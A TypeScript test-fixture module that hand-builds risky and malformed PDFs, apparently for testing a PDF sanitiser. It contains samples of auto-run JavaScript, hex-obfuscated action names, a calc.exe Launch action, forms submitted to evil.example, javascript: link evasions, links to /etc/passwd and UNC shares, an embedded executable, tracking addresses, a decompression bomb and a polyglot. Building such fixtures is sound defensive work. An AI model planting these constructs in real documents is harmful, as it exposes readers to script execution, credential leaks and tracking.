import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

// PDFs that are written by hand, object by object, because a library would not write what is wrong in them.

type Objects = Readonly<Record<number, string | Buffer>>;

const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';
const plain: Objects = { 1: catalog, 2: pages, 3: page };

/** A PDF of these objects, with a table of their places. */
export function pdfOf(objects: Objects, trailer = ''): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n', 'latin1')];
  const places = new Map<number, number>();
  const length = (): number => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [number, body] of Object.entries(objects)) {
    places.set(Number(number), length());
    parts.push(Buffer.from(`${number} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n'));
  }
  const start = length();
  const size = Math.max(...places.keys()) + 1;
  const rows = Array.from({ length: size }, (_, n) => {
    const place = places.get(n);
    return place === undefined ? '0000000000 65535 f \n' : `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  parts.push(
    Buffer.from(`xref\n0 ${String(size)}\n${rows.join('')}`),
    Buffer.from(`trailer\n<< /Size ${String(size)} /Root 1 0 R ${trailer}>>\nstartxref\n${String(start)}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

const stream = (dictionary: string, body: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${String(body.length)} >>\nstream\n`),
    body,
    Buffer.from('\nendstream'),
  ]);

/** An object stream, whose objects are seen only when it is inflated. */
function objectStream(objects: Readonly<Record<number, string>>): Buffer {
  const bodies = Object.values(objects);
  const offsets = bodies.map((_, n) => bodies.slice(0, n).join(' ').length + (n === 0 ? 0 : 1));
  const head = Object.keys(objects)
    .map((number, n) => `${number} ${String(offsets[n])}`)
    .join(' ');
  const body = deflateSync(Buffer.from(`${head} ${bodies.join(' ')}`));
  const dictionary = `/Type /ObjStm /N ${String(bodies.length)} /First ${String(head.length + 1)} /Filter /FlateDecode`;
  return stream(dictionary, body);
}

const opening = (action: string): Objects => ({
  ...plain,
  1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`,
});
const annotated = (annotation: string): Objects => ({
  ...plain,
  3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [${annotation}] >>`,
});

/** What runs something, by what it is. */
export const scripted: Readonly<Record<string, Buffer>> = {
  'a script when it is opened': pdfOf(opening('<< /S /JavaScript /JS (app.alert(1)) >>')),
  'a script whose name is written in hexadecimal': pdfOf(opening('<< /S /#4aava#53cript /#4a#53 (app.alert(1)) >>')),
  'a script in an object stream': pdfOf({
    ...opening('9 0 R'),
    8: objectStream({ 9: '<< /S /JavaScript /JS (app.alert(1)) >>' }),
  }),
  'a script in a tree of names': pdfOf({
    ...plain,
    1: '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 9 0 R] >> >> >>',
    9: '<< /S /JavaScript /JS (app.alert(1)) >>',
  }),
  'a script that nothing names': pdfOf({ ...plain, 9: '<< /S /JavaScript /JS (app.alert(1)) >>' }),
  'a program that is started': pdfOf(opening('<< /S /Launch /F (calc.exe) >>')),
  'what happens when a page is closed': pdfOf({
    ...plain,
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /C << /S /Named /N /Print >> >> >>',
  }),
  'a form that is sent': pdfOf(annotated('<< /Subtype /Link /A << /S /SubmitForm /F (https://evil.example) >> >>')),
  'a form of XFA': pdfOf({
    ...plain,
    1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 9 0 R >> >>',
    9: stream('', Buffer.from('<xdp/>')),
  }),
  'a link that runs code': pdfOf(annotated('<< /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>')),
  'a link to a file of the machine': pdfOf(
    annotated('<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>'),
  ),
  'another document that is opened': pdfOf(
    annotated('<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >> >>'),
  ),
  'a link that runs code, written elsewhere': pdfOf({
    ...annotated('<< /Subtype /Link /A << /S /URI /URI 7 0 R >> >>'),
    7: '(javascript:alert\\(1\\))',
  }),
  'a link that runs code, in a list': pdfOf(annotated('<< /Subtype /Link /A << /S /URI /URI [(javascript:a)] >> >>')),
  'a link that runs code behind a control character': pdfOf(
    annotated('<< /Subtype /Link /A << /S /URI /URI (\\001javascript:a) >> >>'),
  ),
  'a link that runs code with a tab in it': pdfOf(
    annotated('<< /Subtype /Link /A << /S /URI /URI (java\tscript:a) >> >>'),
  ),
  'a link to a share': pdfOf(annotated('<< /Subtype /Link /A << /S /URI /URI (\\\\\\\\evil\\\\share) >> >>')),
  'links with a base that runs code': pdfOf({
    ...plain,
    1: '<< /Type /Catalog /Pages 2 0 R /URI << /Base (javascript:) >> >>',
  }),
  'an address that is asked when it is opened': pdfOf(opening('<< /S /URI /URI (https://track.example/x) >>')),
  'an address that is asked after the page that it opens at': pdfOf(
    opening('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://track.example/x) >> >>'),
  ),
  'an address in a list of what follows': pdfOf(
    opening('<< /S /Named /N /NextPage /Next [<< /S /URI /URI (https://track.example/x) >>] >>'),
  ),
  'an address that follows by a reference': pdfOf({
    ...opening('<< /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >>'),
    9: '<< /S /URI /URI (https://track.example/x) >>',
  }),
  'a thread of another document': pdfOf(
    annotated('<< /Subtype /Link /A << /S /Thread /F (\\\\\\\\evil\\\\x.pdf) >> >>'),
  ),
  'a film': pdfOf(annotated('<< /Subtype /RichMedia >>')),
};

const html = Buffer.from('<!doctype html><script>alert(1)</script>\n');

/** What has other files inside. */
export const withFiles: Readonly<Record<string, Buffer>> = {
  'a file in the tree of names': pdfOf({
    ...plain,
    1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >> >>',
    8: '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
    9: stream('/Type /EmbeddedFile', Buffer.from('MZ')),
  }),
  'a file on a page': pdfOf(annotated('<< /Subtype /FileAttachment >>')),
  'a picture whose bytes are elsewhere': pdfOf({
    ...plain,
    9: stream('/Type /XObject /Subtype /Form /BBox [0 0 1 1] /F (http://evil.example/x)', Buffer.from('x')),
  }),
  'a page of another document': pdfOf({
    ...plain,
    9: stream('/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (http://evil.example/x) /Page 0 >>', html),
  }),
  'a collection of files': pdfOf({ ...plain, 1: '<< /Type /Catalog /Pages 2 0 R /Collection << >> >>' }),
};

/** What is no PDF, or a broken one. */
export const broken: Readonly<Record<string, Buffer>> = {
  'one byte': Buffer.from('%'),
  'a header alone': Buffer.from('%PDF-1.7\n'),
  'a text that is called PDF': Buffer.from('%PDF-1.7\nhello'),
  'a picture': Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
  'a page of HTML before it': Buffer.concat([html, pdfOf(plain)]),
  'a document without pages': pdfOf({ ...plain, 2: '<< /Type /Pages /Kids [] /Count 0 >>' }),
  'a tree of pages that is a circle': pdfOf({ ...plain, 2: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
  'one that is cut': pdfOf({ ...plain, 9: stream('', Buffer.alloc(5000)) }).subarray(0, 700),
};

/** An object stream of this many bytes when it is inflated: a thousandth of them in the file. */
export const bombOf = (bytes: number): Buffer =>
  pdfOf({
    ...plain,
    9: stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(bytes, ' '), { level: 9 })),
  });

/** Arrays in arrays, as deep as this. */
export const nestedOf = (depth: number): Buffer => pdfOf({ ...plain, 9: `${'['.repeat(depth)}${']'.repeat(depth)}` });

/** A document with something after its end, which another program would take for itself. */
export const polyglot = (): Buffer => Buffer.concat([pdfOf(plain), html]);

/** A hidden older version of an object, to which a reader may be led by another table. */
export const revised = (): Buffer => {
  const older = pdfOf(opening('<< /S /JavaScript /JS (app.alert(1)) >>'));
  return Buffer.concat([
    older,
    Buffer.from(`1 0 obj\n${catalog}\nendobj\ntrailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`),
  ]);
};

/** An ordinary document, with a title, text, a link and a place inside it. */
export async function document(count = 2): Promise<Buffer> {
  const made = await PDFDocument.create();
  made.setTitle('A plan');
  for (let n = 0; n < count; n += 1) {
    const added = made.addPage([300, 400]);
    if (n === 0) {
      added.drawText('Six conditions for a platform');
      const link = made.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 90, 20],
        A: { S: 'URI', URI: PDFString.of('https://example.com/plan') },
      });
      added.node.set(PDFName.of('Annots'), made.context.obj([link]));
    }
  }
  return Buffer.from(await made.save());
}

/** One that asks for a password. */
export async function locked(): Promise<Buffer> {
  const made = await PDFDocument.load(await document(1));
  made.encrypt({ userPassword: 'secret', ownerPassword: 'secret' });
  return Buffer.from(await made.save());
}
